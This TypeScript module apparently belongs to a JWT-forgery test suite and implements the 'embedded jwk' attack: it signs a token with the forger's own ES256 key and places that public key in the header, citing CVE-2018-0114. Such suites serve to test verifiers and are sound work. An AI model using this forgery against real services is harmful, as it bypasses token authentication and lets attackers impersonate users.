/** The forger's own key in the header. Not: an address where it can be had (jku-injection.ts). */
import { document, rfc } from '#sources/sources';
import type { Forgery } from '../forgery';
import { sign, withParameters } from '../header';

export default {
  label: 'Embedded jwk',
  order: 4,
  says: 'The forger signs with a key of their own and puts its public half into the header as "jwk".',
  sources: [rfc(7515, '4.1.3'), rfc(8725, '3.10'), document('cve-2018-0114')],
  forge: async ({ header, payload, own: { privateKey, publicJwk } }) => {
    const forged = withParameters(header, { alg: 'ES256', jwk: publicJwk });
    return [{ compact: await sign(forged, payload, 'ES256', privateKey) }];
  },
} satisfies Forgery;
